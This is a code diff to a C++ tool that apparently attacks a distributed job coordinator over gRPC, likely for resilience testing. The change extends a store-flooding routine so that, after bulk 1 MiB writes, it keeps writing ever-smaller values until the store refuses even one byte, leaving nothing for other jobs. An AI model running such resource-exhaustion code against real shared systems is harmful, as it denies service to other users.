@@ -29,6 +29,7 @@
 // Exit status: 0 when the attack ran (whatever the coordinator answered),
 // 1 when it could not (the job or worker it needs was not found), 2 for bad
 // usage.
+#include <atomic>
 #include <cmath>
 #include <cstdint>
 #include <cstdio>
@@ -328,6 +329,7 @@ bool StoreFlood(const Options& o, Tally* tally) {
   auto stub = v1::Coordinator::NewStub(c.channel);
   const std::string prefix = JobKey(c, o.job, "flood-");
   const std::string value(size_t{1} << 20, 'v');
+  std::atomic<int> stored{0};
   RunParallel(o.count, o.threads, [&](int i) {
     v1::StoreSetRequest request;
     request.set_key(absl::StrCat(prefix, i));
@@ -335,8 +337,32 @@ bool StoreFlood(const Options& o, Tally* tally) {
     grpc::ClientContext ctx;
     Prepare(&ctx, c);
     v1::StoreSetResponse response;
-    tally->Add(stub->StoreSet(&ctx, request, &response));
+    const grpc::Status s = stub->StoreSet(&ctx, request, &response);
+    tally->Add(s);
+    if (s.ok()) ++stored;
   });
+  tally->Note("mib_values_stored", std::to_string(stored.load()));
+  // Then to the brim: values of half the size until one byte is refused,
+  // so that nothing is left for another job's rendezvous.
+  int64_t topped = 0;
+  for (size_t size = value.size() / 2, n = 0; size >= 1; ++n) {
+    v1::StoreSetRequest request;
+    request.set_key(absl::StrCat(prefix, "top-", n));
+    request.set_value(value.substr(0, size));
+    grpc::ClientContext ctx;
+    Prepare(&ctx, c);
+    v1::StoreSetResponse response;
+    const grpc::Status s = stub->StoreSet(&ctx, request, &response);
+    tally->Add(s);
+    if (s.ok()) {
+      topped += static_cast<int64_t>(size);
+    } else if (s.error_code() == grpc::RESOURCE_EXHAUSTED) {
+      size /= 2;
+    } else {
+      break;
+    }
+  }
+  tally->Note("topped_up_bytes", std::to_string(topped));
   return true;
 }
 
